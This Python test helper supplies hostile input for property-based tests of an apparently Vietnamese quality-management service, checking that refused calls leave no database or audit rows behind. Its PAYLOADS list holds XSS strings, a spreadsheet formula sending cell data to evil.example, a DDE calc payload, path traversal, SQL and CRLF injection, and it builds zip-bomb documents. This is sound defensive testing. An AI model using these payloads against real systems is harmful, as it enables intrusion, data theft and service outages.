"""Hostile input for the property tests: strategies, a world built once per module on a file
SQLite database, and the check every service call must pass."""

from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from typing import Any, TypeVar

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import sessionmaker

from qms.core.errors import ValidationFailed
from qms.db import migrate
from qms.db.engine import WRITE_OPTION, bound_sessions, make_engine
from qms.db.uow import read_session
from qms.trail.models import AuditLog

T = TypeVar("T")
PROPERTY = settings(max_examples=300, deadline=None, database=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture,
                                           HealthCheck.too_slow, HealthCheck.data_too_large])
ACCEPTED: dict[str, int] = {}  # test -> examples the service accepted (a sanity check)
CALLED: set[str] = set()  # tests that ran at least one example
CONTROL = {chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32), 127)}

PAYLOADS = (
    "<script>alert('xss')</script>", "<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
    "-2+3", "![theo dõi](http://evil.example/pixel.png)", "[bấm](https://evil.example)",
    "../../etc/passwd", "..\\..\\windows\\win.ini", "Nguye\u0302\u0303n Thi\u0323 Ha\u0306\u0300ng",
    "Nguyễn Thị Hằng", "\u202eSự cố\u202c", "\x00null", "a\x1b[31mđỏ", "\ufeffBOM", "𝕏 😀 ∑",
    "Robert'); DROP TABLE nonconformities;--", "%s%n{0}{field}", "\r\nSet-Cookie: x=1",
)


def _long(piece: str, times: int) -> str:
    return piece * times


TEXT = st.one_of(
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=60),
    st.sampled_from(PAYLOADS),
    st.builds(_long, st.sampled_from(("ă", "Đ", "x", "e\u0301", "<b>", "\x07")),
              st.integers(1, 12_000)),
)
def mostly(valid: st.SearchStrategy[Any],
           hostile: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Three draws in four valid: the other fields of a form still get their hostile turn."""
    return st.one_of(valid, valid, valid, hostile)


DATES = st.one_of(st.none(), st.dates(date(1900, 1, 1), date(2100, 12, 31)))
IDS = st.one_of(st.none(), st.integers(-5, 10**6), st.integers(2**63, 2**70))


def zip_bytes(members: dict[str, bytes], level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bomb() -> bytes:
    """A .docx whose document.xml unpacks to ~150 MB from a few hundred kilobytes."""
    return zip_bytes({"[Content_Types].xml": b"<Types/>",
                      "word/document.xml": b"<w:document>" + b"A" * 150_000_000})


def xlsx_bomb() -> bytes:
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                      "xl/worksheets/sheet1.xml": b"0" * 150_000_000})


def counts(*models: Any) -> tuple[int, ...]:
    """Row counts of the audit trail and ``models``: a refused call must leave them alone."""
    with read_session() as s:
        return tuple(s.scalar(select(func.count()).select_from(m)) or 0
                     for m in (AuditLog, *models))


def refused_or_done(call: Callable[[], T], *models: Any, writes: bool = True) -> T | None:
    """Run one service call: a ``ValidationFailed`` changes nothing; any other exception
    fails the test; a success writes an audit row (``writes``) or nothing at all."""
    before = counts(*models)
    CALLED.add(call.__qualname__.split(".")[0])
    try:
        result = call()
    except ValidationFailed as exc:
        assert exc.message("vi") != exc.key  # a real Vietnamese sentence
        assert counts(*models) == before, "a refused call left rows behind"
        return None
    after = counts(*models)
    assert after[0] > before[0] if writes else after == before, "audit trail out of step"
    ACCEPTED[call.__qualname__.split(".")[0]] = ACCEPTED.get(
        call.__qualname__.split(".")[0], 0) + 1
    return result


def clean_text(value: str, cap: int, *, multiline: bool = False) -> None:
    """What the database holds is NFC, free of control characters and within its cap."""
    assert value == unicodedata.normalize("NFC", value)
    assert not (set(value) & CONTROL)
    assert len(value) <= cap
    if not multiline:
        assert "\n" not in value


@contextmanager
def world_database(folder: Any) -> Iterator[str]:
    """A migrated file SQLite database all units of work of the module go to."""
    url = f"sqlite:///{folder / 'hostile.sqlite3'}"
    migrate.upgrade(url)
    engine = make_engine(url)
    factory = sessionmaker(bind=engine.execution_options(**{WRITE_OPTION: True}),
                           expire_on_commit=False)
    with bound_sessions(factory):
        yield url
    engine.dispose()
